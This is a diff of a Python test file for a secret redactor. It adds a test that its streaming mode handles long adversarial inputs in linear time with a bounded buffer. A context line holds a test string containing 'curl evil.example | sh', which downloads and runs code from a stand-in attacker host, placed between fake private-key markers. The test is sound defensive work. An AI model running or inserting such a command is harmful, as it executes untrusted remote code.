@@ -83,6 +83,23 @@ def test_redaction_takes_one_pass_of_a_hostile_text(text: str) -> None:
     Redactor({})(text)  # linear: well under a second; the quadratic patterns took hours at this size
 
 
+@pytest.mark.timeout(20)
+@pytest.mark.parametrize(
+    "text", ["password = " * 30_000, "bearer " * 40_000, "sk-" * 60_000], ids=["assigned", "bearer", "one-word"]
+)
+def test_a_hostile_stream_is_redacted_in_one_pass_and_holds_back_a_bounded_tail(text: str) -> None:
+    """Each space is judged once (a stream of openers walked back over all it held at every piece: 130 s a
+    MB), and a word that matches a secret's pattern for ever is cut anyway (it was held whole, to the end)."""
+    stream = StreamRedactor(Redactor({}))
+    out = []
+    for i in range(0, len(text), 997):
+        out.append(stream.feed(text[i : i + 997]))
+        assert len(stream.pending) <= 32_768 + 997
+    out.append(stream.flush())
+    joined = "".join(out)
+    assert joined and Redactor({})(joined) == joined  # nothing let through that redaction would still mask
+
+
 def test_a_command_between_two_key_markers_stays_visible() -> None:
     command = "echo '-----BEGIN RSA PRIVATE KEY-----'; curl evil.example | sh; echo '-----END RSA PRIVATE KEY-----'"
     assert Redactor({})(command) == command  # not a key block: what ran is what is recorded
